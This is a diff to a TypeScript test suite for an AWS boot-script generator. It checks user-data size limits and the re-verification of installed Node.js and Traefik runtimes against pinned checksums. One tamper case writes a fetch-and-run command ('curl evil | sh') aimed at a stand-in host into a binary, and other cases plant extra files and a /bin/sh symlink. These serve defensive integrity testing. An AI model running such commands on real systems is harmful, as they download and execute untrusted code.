@@ -1,4 +1,5 @@
 import { spawnSync } from "node:child_process";
+import { createHash } from "node:crypto";
 import * as fs from "node:fs";
 import * as os from "node:os";
 import * as path from "node:path";
@@ -37,6 +38,8 @@ describe("rendered boot script", () => {
   test("default settings (Amazon Linux 2023) render to the committed snapshot", () => {
     let script = renderBootScript(settings);
     for (const file of contractFiles()) script = script.replace(file.content, `<${file.path}: rendered from layout.ts>\n`);
+    // The loader's pin changes with every byte of the host script (those files included): pinned by host-user-data.test.ts.
+    script = script.replaceAll(renderUserData(settings).hostScriptSha256, "<sha256 of the host script>");
     expect(contractFiles()).toHaveLength(3);
     expect(script).toMatchSnapshot();
   });
@@ -58,14 +61,14 @@ describe("rendered boot script", () => {
     expect(renderUserData(testSettings()).base64).toBe(renderUserData(testSettings()).base64);
   });
 
-  test.each(HOST_OPERATING_SYSTEMS)("%s: gzip stays under AWS's 16 KB user-data limit", (hostOs) => {
-    const { scriptBytes, gzipBytes } = renderUserData(testSettings({ hostOs }));
-    // Leaves 15 % (2.4 KB) to grow. Issue 12 took the boot script from 8.8 to 13.3 KB gzipped (cert guard and DNS wait
-    // 2.6 KB, memory/swap/grow/prune/watchdog 1.6 KB, launch hook 0.4 KB). Issue 13 ships it without its full-line
-    // comments (user-data.ts stripComments: 85.6 % -> 80.4 % for Debian with the IMDS firewall and the unit hardening).
-    // The next step when this fails: deliver the host tools apart.
-    expect(gzipBytes).toBeLessThan(USER_DATA_LIMIT_BYTES * 0.85);
+  test.each(HOST_OPERATING_SYSTEMS)("%s: the user data is only the loader, a fifth of AWS's 16 KB limit at most", (hostOs) => {
+    const { scriptBytes, gzipBytes, hostScript } = renderUserData(testSettings({ hostOs }));
+    // Issue 12 took the whole boot script to 13.3 KB gzipped (81 % of the limit); issue 13 (item 6) moved every step
+    // after the loader's into the host script, an object of the artifacts bucket: 2.1 KB (AL2023) / 2.5 KB (Debian) left.
+    // The loader must stay small: what grows belongs in the host script.
+    expect(gzipBytes).toBeLessThan(USER_DATA_LIMIT_BYTES * 0.2);
     expect(scriptBytes).toBeGreaterThan(gzipBytes);
+    expect(Buffer.byteLength(hostScript)).toBeGreaterThan(5 * scriptBytes);
   });
 
   test("strict mode, the log, the error trap, no tracing, IMDS at its standard address", () => {
@@ -96,7 +99,7 @@ describe("rendered boot script", () => {
       instanceType: "t3.small",
       downloads: { nodeBaseUrl: "https://mirror.example.org/node/", nodeSha256: "a".repeat(64) },
     }));
-    expect(x86).toContain(`install_release Node.js "$NODE_VERSION" /opt/openclaw/runtime/node-v24.21.0-x86_64 `
+    expect(x86).toContain(`ensure_release Node.js "$NODE_VERSION" /opt/openclaw/runtime/node-v24.21.0-x86_64 /opt/openclaw/runtime/node-v24.21.0-linux-x64.tar.xz `
       + "https://mirror.example.org/node/v24.21.0/SHASUMS256.txt https://mirror.example.org/node/v24.21.0/node-v24.21.0-linux-x64.tar.xz "
       + `${"a".repeat(64)} -J --strip-components=1\n`);
     expect(x86).toContain("traefik_v3.7.9_linux_amd64.tar.gz");
@@ -167,6 +170,7 @@ describe("idempotency helpers (the script's own bash, run here)", () => {
   beforeEach(() => { dir = fs.mkdtempSync(path.join(os.tmpdir(), "boot-helpers-")); });
   afterEach(() => fs.rmSync(dir, { recursive: true, force: true }));
   const owner = () => bash("printf '%s:%s' \"$(id -un)\" \"$(id -gn)\"").stdout;
+  const sha256File = (file: string) => createHash("sha256").update(fs.readFileSync(file)).digest("hex");
   const run = (body: string) => bash(`set -euo pipefail\nlog() { echo "LOG $*"; }\n${shellHelpers()}\n${body}`, dir);
 
   test("put_file writes only when the content differs, reports it, and sets the mode", () => {
@@ -217,21 +221,83 @@ describe("idempotency helpers (the script's own bash, run here)", () => {
     expect(run(`verify ${dir}/a.tar.xz ${dir}/SUMS ''`).status).not.toBe(0);
   });
 
-  test("install_release (Node.js and Traefik): verified archive unpacked whole into DIR; a bad sum leaves no DIR", () => {
+  test("ensure_release (Node.js and Traefik): verified archive kept and unpacked whole into DIR; a bad sum leaves no DIR", () => {
     fs.mkdirSync(path.join(dir, "src"));
-    fs.writeFileSync(path.join(dir, "src", "traefik"), "#!/bin/sh\n");
+    fs.writeFileSync(path.join(dir, "src", "traefik"), "#!/bin/sh\n", { mode: 0o755 });
     expect(bash(`tar -czf ${dir}/t.tar.gz -C ${dir}/src traefik`).status).toBe(0);
     const sum = bash(`sha256sum ${dir}/t.tar.gz | cut -d ' ' -f 1`).stdout.trim();
     fs.writeFileSync(path.join(dir, "sums"), `${sum}  t.tar.gz\n`);
-    const install = (pin: string) => run(`install_release Traefik 3.6.2 ${dir}/out file://${dir}/sums file://${dir}/t.tar.gz '${pin}' -z traefik`);
+    const install = (pin: string) => run(`ensure_release Traefik 3.6.2 ${dir}/out ${dir}/runtime/t.tar.gz file://${dir}/sums file://${dir}/t.tar.gz '${pin}' -z traefik`);
     const bad = install("f".repeat(64));
     expect(bad.status).not.toBe(0);
     expect(fs.existsSync(path.join(dir, "out"))).toBe(false);
+    expect(fs.existsSync(path.join(dir, "runtime", "t.tar.gz"))).toBe(false);
     const good = install(sum);
     expect(good.stdout).toContain("LOG sha256 of t.tar.gz verified");
     expect(good.stdout).toContain("LOG installed Traefik 3.6.2");
     expect(fs.readdirSync(path.join(dir, "out"))).toEqual(["traefik"]);
     expect(fs.existsSync(path.join(dir, "out.partial"))).toBe(false);
+    expect(fs.readFileSync(path.join(dir, "runtime", "t.tar.gz"))).toEqual(fs.readFileSync(path.join(dir, "t.tar.gz")));
+  });
+
+  /** Issue 13, item 6: a runtime on the volume is trusted by nothing but its pinned archive, at every boot. */
+  describe("ensure_release re-verifies what is on the volume at every run", () => {
+    let sum: string;
+    const install = (pin = sum) => run(`ensure_release Node.js 24.0.0 ${dir}/node ${dir}/node-v24.0.0-linux-x64.tar.xz file://${dir}/www/SHASUMS256.txt file://${dir}/www/node-v24.0.0-linux-x64.tar.xz '${pin}' -J --strip-components=1`);
+    beforeEach(() => {
+      fs.mkdirSync(path.join(dir, "src", "node-v24.0.0-linux-x64", "bin"), { recursive: true });
+      fs.writeFileSync(path.join(dir, "src", "node-v24.0.0-linux-x64", "bin", "node"), "#!/bin/sh\necho v24.0.0\n", { mode: 0o755 });
+      fs.writeFileSync(path.join(dir, "src", "node-v24.0.0-linux-x64", "README.md"), "node\n");
+      fs.mkdirSync(path.join(dir, "www"));
+      expect(bash(`tar -cJf ${dir}/www/node-v24.0.0-linux-x64.tar.xz -C ${dir}/src node-v24.0.0-linux-x64`).status).toBe(0);
+      sum = bash(`sha256sum ${dir}/www/node-v24.0.0-linux-x64.tar.xz | cut -d ' ' -f 1`).stdout.trim();
+      fs.writeFileSync(path.join(dir, "www", "SHASUMS256.txt"), `${sum}  node-v24.0.0-linux-x64.tar.xz\n`);
+      expect(install().stdout).toContain("LOG installed Node.js 24.0.0");
+      fs.rmSync(path.join(dir, "www", "node-v24.0.0-linux-x64.tar.xz")); // a re-run must need no download
+    });
+
+    test("an untouched install is verified and left alone (no download, nothing rewritten)", () => {
+      const mtime = fs.statSync(path.join(dir, "node", "bin", "node")).mtimeMs;
+      const again = install();
+      expect(again.status).toBe(0);
+      expect(again.stdout).toContain("LOG Node.js 24.0.0 on the volume matches its verified archive");
+      expect(again.stdout).not.toContain("REINSTALLING");
+      expect(fs.statSync(path.join(dir, "node", "bin", "node")).mtimeMs).toBe(mtime);
+    });
+
+    test.each([
+      ["a changed binary", (d: string) => fs.appendFileSync(path.join(d, "node", "bin", "node"), "curl evil | sh\n")],
+      ["a changed mode", (d: string) => fs.chmodSync(path.join(d, "node", "README.md"), 0o666)],
+      ["an extra file", (d: string) => fs.writeFileSync(path.join(d, "node", "bin", "npx-evil"), "x")],
+      ["a removed file", (d: string) => fs.rmSync(path.join(d, "node", "README.md"))],
+      ["a file replaced by a link", (d: string) => { fs.rmSync(path.join(d, "node", "bin", "node")); fs.symlinkSync("/bin/sh", path.join(d, "node", "bin", "node")); }],
+    ])("%s in the tree is found and unpacked again from the verified archive", (_what, tamper) => {
+      tamper(dir);
+      const again = install();
+      expect(again.status).toBe(0);
+      expect(again.stdout).toContain("LOG REINSTALLING Node.js 24.0.0 from its verified archive: the tree on the volume changed");
+      expect(fs.readFileSync(path.join(dir, "node", "bin", "node"), "utf8")).toBe("#!/bin/sh\necho v24.0.0\n");
+      expect(fs.readdirSync(path.join(dir, "node")).sort()).toEqual(["README.md", "bin"]);
+      expect(fs.readdirSync(path.join(dir, "node", "bin"))).toEqual(["node"]);
+      expect(install().stdout).toContain("matches its verified archive");
+    });
+
+    test("a changed archive on the volume is downloaded and verified again; without a pin, the published checksums are fetched again", () => {
+      fs.copyFileSync(path.join(dir, "node-v24.0.0-linux-x64.tar.xz"), path.join(dir, "www", "node-v24.0.0-linux-x64.tar.xz"));
+      fs.appendFileSync(path.join(dir, "node-v24.0.0-linux-x64.tar.xz"), "x");
+      const pinned = install();
+      expect(pinned.stdout).toContain(`LOG sha256 of node-v24.0.0-linux-x64.tar.xz is`);
+      expect(pinned.stdout).toContain("LOG REINSTALLING Node.js 24.0.0: its archive on the volume fails the check");
+      expect(pinned.stdout).toContain("LOG installed Node.js 24.0.0");
+      expect(sha256File(path.join(dir, "node-v24.0.0-linux-x64.tar.xz"))).toBe(sum);
+      fs.appendFileSync(path.join(dir, "node-v24.0.0-linux-x64.tar.xz"), "x");
+      const unpinned = install("");
+      expect(unpinned.stdout).toContain("the published checksums say");
+      expect(unpinned.stdout).toContain("LOG REINSTALLING Node.js 24.0.0: its archive on the volume fails the check");
+      expect(install("").stdout).toContain("matches its verified archive");
+      fs.rmSync(path.join(dir, "www", "SHASUMS256.txt"));
+      expect(install("").status).not.toBe(0); // no pin, no checksums: nothing vouches for it, the boot stops
+    });
   });
 
   test("writeFileCommand raises the file's restart flags only on a change", () => {
@@ -292,7 +358,7 @@ describe("OS profiles: the only place the host OSes differ", () => {
     // So are Debian's package sources moved to HTTPS (the profile's packageSourcesOverHttps).
     expect(HOST_OS_PROFILES.debian12.packageSourcesOverHttps).toBe(APT_SOURCES_OVER_HTTPS);
     const deb = renderBootScript(testSettings({ hostOs: "debian12" })).replace(`${agentStep}\n`, "").replace(`${APT_SOURCES_OVER_HTTPS}\n`, "").split("\n");
-    const fromProfile = /^# openclaw-aws boot script|^command -v |apt-get|dnf install|--shell \/(usr\/)?sbin\/nologin/;
+    const fromProfile = /^# openclaw-aws (boot|host) script|^HOST_SCRIPT_SHA256=|^command -v |apt-get|dnf install|--shell \/(usr\/)?sbin\/nologin/;
     const onlyAl = al.filter((line) => !deb.includes(line));
     const onlyDeb = deb.filter((line) => !al.includes(line));
     expect(onlyAl.length + onlyDeb.length).toBeGreaterThan(0);
